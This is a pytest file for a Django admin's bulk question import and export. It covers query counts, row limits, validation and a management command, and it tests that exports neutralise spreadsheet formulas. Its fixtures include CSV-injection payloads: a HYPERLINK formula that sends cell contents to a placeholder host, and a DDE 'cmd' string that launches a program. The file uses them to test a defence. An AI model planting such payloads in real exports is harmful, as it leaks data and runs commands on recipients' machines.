"""The admin's question import at scale: checks in bulk, a flat query count, a row limit for
the web form, the command for larger files, formula-safe CSV both ways."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from config.csv_safety import neutralise
from questionbank.models import Question
from tests.factories import LevelFactory, QuestionFactory, TopicFactory

IMPORT = reverse("admin:questionbank_question_import")
PROCESS = reverse("admin:questionbank_question_process_import")
EXPORT = reverse("admin:questionbank_question_export")
COLUMNS = ["id", "text", "kind", "difficulty", "levels", "topics", "estimated_minutes", "status"]
KINDS = ["conceptual", "coding", "system_design", "behavioral", "scenario"]
FORMULA = '=HYPERLINK("http://example.invalid/"&A1)'


@pytest.fixture
def tags(db):
    levels = [LevelFactory(name=n, slug=n.lower(), rank=i) for i, n in enumerate(["Intern", "Eng"])]
    topics = [TopicFactory(name=f"Topic {i}", slug=f"topic-{i}") for i in range(6)]
    return levels, topics


@pytest.fixture
def as_curator(client, curator):
    client.force_login(curator)
    return client


def rows(n: int, *, start: int = 0, **overrides) -> list[dict]:
    return [
        {
            "id": "",
            "text": f"Imported question number {i} about subject {i % 17}?",
            "kind": KINDS[i % 5],
            "difficulty": str(i % 5 + 1),
            "levels": "intern,eng" if i % 2 else "eng",
            "topics": f"topic-{i % 6},topic-{(i + 1) % 6}",
            "estimated_minutes": "",
            "status": "",
        }
        | overrides
        for i in range(start, start + n)
    ]


def as_csv(data: list[dict], columns=COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns)
    writer.writeheader()
    writer.writerows({k: neutralise(v) for k, v in row.items()} for row in data)
    return out.getvalue()


def preview(client, content: str, name: str = "bank.csv"):
    upload = SimpleUploadedFile(name, content.encode(), content_type="text/csv")
    return client.post(IMPORT, {"resource": "0", "import_file": upload, "format": "0"})


def confirm(client, html: str):
    fields = dict(
        re.findall(
            r'name="(import_file_name|original_file_name|format|resource)" value="([^"]*)"', html
        )
    )
    return client.post(PROCESS, fields)


def test_the_preview_costs_the_same_queries_for_100_and_1000_rows(as_curator, tags):
    QuestionFactory.create_batch(30, levels=tags[0][:1], topics=tags[1][:1])
    counts = {}
    for n in (100, 1000):
        content = as_csv(rows(n))
        with CaptureQueriesContext(connection) as ctx:
            response = preview(as_curator, content)
        assert response.status_code == 200
        html = response.content.decode()
        assert 'name="import_file_name"' in html, re.findall(r"Line number.{0,200}", html)[:3]
        counts[n] = len(ctx.captured_queries)
    assert counts[100] == counts[1000]
    assert counts[1000] <= 16, counts
    assert Question.objects.count() == 30  # a preview writes nothing


def test_import_1000_rows_then_confirm_writes_them_all(as_curator, tags):
    html = preview(as_curator, as_csv(rows(1000))).content.decode()
    response = confirm(as_curator, html)
    assert response.status_code == 302
    assert Question.objects.count() == 1000
    question = Question.objects.get(text="Imported question number 7 about subject 7?")
    assert sorted(question.levels.values_list("slug", flat=True)) == ["eng", "intern"]
    assert sorted(question.topics.values_list("slug", flat=True)) == ["topic-1", "topic-2"]
    assert question.kind == "system_design" and question.estimated_minutes == 25


def test_updating_existing_questions_by_id(as_curator, tags):
    levels, topics = tags
    kept = QuestionFactory(text="Old text?", levels=[levels[0]], topics=[topics[0]])
    data = rows(1, text="New text?", levels="eng", topics="topic-3", id=str(kept.pk))
    html = preview(as_curator, as_csv(data)).content.decode()
    assert confirm(as_curator, html).status_code == 302
    kept.refresh_from_db()
    assert kept.text == "New text?"
    assert list(kept.levels.values_list("slug", flat=True)) == ["eng"]
    assert list(kept.topics.values_list("slug", flat=True)) == ["topic-3"]


@pytest.mark.parametrize(
    "bad, message",
    [
        ({"text": "Imported question number 3 about subject 3?"}, "earlier row of this file"),
        ({"text": "Already  in the BANK?"}, "already exists"),
        ({"difficulty": "0"}, "Difficulty must be from 1"),
        ({"estimated_minutes": "500"}, "Estimated minutes must be from 1 to 120."),
        ({"kind": "poem"}, "must be one of"),
        ({"topics": "topic-1,nope"}, "unknown topic nope"),
        ({"text": "x" * 2001}, "at most 2000 characters"),
    ],
)
def test_one_bad_row_among_500_stops_everything(as_curator, tags, bad, message):
    QuestionFactory(text="Already in the bank?", levels=tags[0][:1], topics=tags[1][:1])
    data = rows(500)
    data[400] |= bad
    response = preview(as_curator, as_csv(data))
    html = response.content.decode()
    assert message in html
    assert re.search(r"<td>401 </td>\s*<td class=\"errors\">", html)
    assert 'name="import_file_name"' not in html
    assert Question.objects.count() == 1


def test_a_row_gone_bad_between_preview_and_confirm_writes_nothing(as_curator, tags):
    html = preview(as_curator, as_csv(rows(50))).content.decode()
    QuestionFactory(
        text="Imported question number 49 about subject 15?",
        levels=tags[0][:1],
        topics=tags[1][:1],
    )
    confirm(as_curator, html)
    assert Question.objects.count() == 1


def test_the_web_form_has_a_row_limit(as_curator, tags, settings):
    settings.QUESTION_IMPORT_WEB_ROWS = 40
    response = preview(as_curator, as_csv(rows(41)))
    html = response.content.decode()
    assert "This file has 41 rows; the import page takes at most 40." in html
    assert "python manage.py import_questions FILE" in html
    assert 'name="import_file_name"' not in html and "Traceback" not in html
    assert Question.objects.count() == 0
    assert 'name="import_file_name"' in preview(as_curator, as_csv(rows(40))).content.decode()


def test_the_command_imports_a_large_file(tags, tmp_path, capsys, settings):
    settings.QUESTION_IMPORT_WEB_ROWS = 40
    path = tmp_path / "bank.csv"
    path.write_text(as_csv(rows(300)))
    call_command("import_questions", str(path), "--dry-run")
    assert "Would import 300 rows: 300 new" in capsys.readouterr().out
    assert Question.objects.count() == 0
    call_command("import_questions", str(path))
    assert "Imported 300 rows: 300 new" in capsys.readouterr().out
    assert Question.objects.count() == 300


def test_the_command_writes_nothing_when_a_row_is_bad(tags, tmp_path):
    data = rows(100)
    data[60]["difficulty"] = "7"
    path = tmp_path / "bank.csv"
    path.write_text(as_csv(data))
    with pytest.raises(CommandError, match=r"row 61: difficulty: Difficulty must be from 1"):
        call_command("import_questions", str(path))
    assert Question.objects.count() == 0


# Formula cells ------------------------------------------------------------------------------


def _export(client, fmt_index: str = "0"):
    return client.post(
        EXPORT,
        {
            "format": fmt_index,
            "resource": "0",
            **{f"questionresource_{c}": "on" for c in COLUMNS + ["guidance"]},
        },
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_admin_csv_export_neutralises_formula_cells(as_curator, tags, start):
    levels, topics = tags
    text = f"{start}cmd|' /C calc'!A0 is a question?"
    QuestionFactory(text=text, guidance=FORMULA, levels=[levels[0]], topics=[topics[0]])
    response = _export(as_curator)
    raw = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert raw[0]["text"] == "'" + text
    assert raw[0]["guidance"] == "'" + FORMULA
    assert raw[0]["levels"] == "intern"  # ordinary cells untouched


def test_admin_tsv_export_neutralises_formula_cells(as_curator, tags):
    QuestionFactory(text=FORMULA, levels=tags[0][:1], topics=tags[1][:1])
    body = _export(as_curator, "1").content.decode("utf-8-sig")
    raw = list(csv.DictReader(io.StringIO(body, newline=""), delimiter="\t"))
    assert raw[0]["text"] == "'" + FORMULA


def test_admin_export_then_import_reads_back_what_was_typed(as_curator, tags):
    levels, topics = tags
    texts = [FORMULA, "'=already quoted?", "-1 is negative?", "@mention?", "Plain?"]
    for text in texts:
        QuestionFactory(text=text, guidance=f"{text}\n- point", levels=levels, topics=topics)
    exported = _export(as_curator).content.decode("utf-8-sig")
    Question.objects.all().delete()
    html = preview(as_curator, exported).content.decode()
    assert confirm(as_curator, html).status_code == 302
    assert sorted(Question.objects.values_list("text", flat=True)) == sorted(texts)
    for question in Question.objects.all():
        assert question.guidance == f"{question.text}\n- point"
